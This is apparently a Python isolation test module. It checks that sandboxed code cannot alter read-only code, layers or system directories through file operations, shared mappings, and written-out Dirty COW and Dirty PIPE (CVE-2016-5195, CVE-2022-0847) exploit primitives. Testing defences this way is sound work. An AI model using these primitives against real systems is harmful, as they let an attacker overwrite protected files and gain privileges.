"""Changes to what is read-only: code, layers, and the system's directories (S11, S12, CVE-2022-0847, CVE-2016-5195)."""

import ctypes
import mmap
import os

from hostile import LIBC, Refused, attack, attempt, code, family, main

O_TMPFILE = 0o20200000
SYSTEM = {name.strip("/") or "root": name for name in ("/", "/usr", "/usr/lib", "/etc", "/dev", "/var", "/run", "/home")}


def place(kind):
    return code("open") if kind == "code" else os.path.join(os.environ["HOSTILE_LAYER"], "open")


@family("create_in", {"code": "code", "layer": "layer"})
def create(kind):
    path = f"{place(kind)}/new"
    with attempt("create"):
        open(path, "x").close()
    os.unlink(path)
    return "created"


@family("overwrite_in", {"code": "code", "layer": "layer"})
def overwrite(kind):
    path = f"{place(kind)}/file"
    with attempt("open for writing"), open(path, "r+") as file:
        file.write("overwritten")
    return open(path).read()


@family("remove_in", {"code": "code", "layer": "layer"})
def remove(kind):
    with attempt("unlink"):
        os.unlink(f"{place(kind)}/victim")
    return "removed"


@family("rename_in", {"code": "code", "layer": "layer"})
def rename(kind):
    with attempt("rename"):
        os.rename(f"{place(kind)}/name", f"{place(kind)}/other")
    return "renamed"


@family("attribute_in", {"code": "code", "layer": "layer"})
def attribute(kind):
    path = f"{place(kind)}/file"
    with attempt("setxattr"):
        os.setxattr(path, "user.hostile", b"set")
    return os.getxattr(path, "user.hostile").decode()


@family("touch_in", {"code": "code", "layer": "layer"})
def touch(kind):
    """The time of last access: a trace that a reader of the same files would see."""
    path = f"{place(kind)}/file"
    with attempt("utimensat"):
        os.utime(path)
    return "touched"


@family("map_in", {"code": "code", "layer": "layer"})
def shared_mapping(kind):
    path = f"{place(kind)}/mapped"
    with attempt("open"):
        file = os.open(path, os.O_RDWR)
    with attempt("map"), mmap.mmap(file, 6, mmap.MAP_SHARED, mmap.PROT_WRITE) as mapping:
        mapping[:6] = b"mapped"
    return open(path).read(6)


@family("system", SYSTEM)
def system(directory):
    """A file without a name: the same right as creating one, and nothing stays."""
    with attempt("create"):
        os.close(os.open(directory, O_TMPFILE | os.O_WRONLY))
    return "created"


def forced(address_of, path, text):
    memory = os.open("/proc/self/mem", os.O_RDWR)
    os.lseek(memory, address_of, os.SEEK_SET)
    os.write(memory, text)
    return open(path, "rb").read(len(text))


@attack
def forced_write():
    """/proc/self/mem writes to a private read-only mapping; the file must not change (Dirty COW)."""
    path = place("code") + "/forced"
    file = os.open(path, os.O_RDONLY)
    LIBC.mmap.restype = ctypes.c_void_p
    address = LIBC.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, file, 0)
    with attempt("write"):
        after = forced(address, path, b"forced")
    if after != b"forced":
        raise Refused("the file did not change")
    return "forced"


@attack
def forced_write_mechanism():
    """The same write through a shared mapping of a file that may be written."""
    path = place("code") + "/forced"
    file = os.open(path, os.O_RDWR)
    LIBC.mmap.restype = ctypes.c_void_p
    address = LIBC.mmap(None, 4096, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED, file, 0)
    return forced(address, path, b"forced").decode()


def through_pipe(write):
    """Splices the first byte of a file into a pipe, writes to the pipe behind it, and reads the file again."""
    path = place("code") + "/piped"
    reader, writer = os.pipe()
    os.write(writer, b"x" * 65536)
    os.read(reader, 65536)
    file = os.open(path, os.O_RDONLY)
    with attempt("splice"):
        os.splice(file, writer, 1, offset_src=0)
    write(path, writer)
    return open(path, "rb").read(6)


@attack
def dirty_pipe():
    after = through_pipe(lambda _, writer: os.write(writer, b"iped!!"))
    if not after.endswith(b"iped!"):
        raise Refused("the file did not change")
    return "piped"


@attack
def dirty_pipe_mechanism():
    """The page in the pipe is the file's: a write to the file shows in what the pipe delivers."""

    def write(path, _):
        with open(path, "r+b") as file:
            file.write(b"piped!")

    return through_pipe(write).decode()


main()
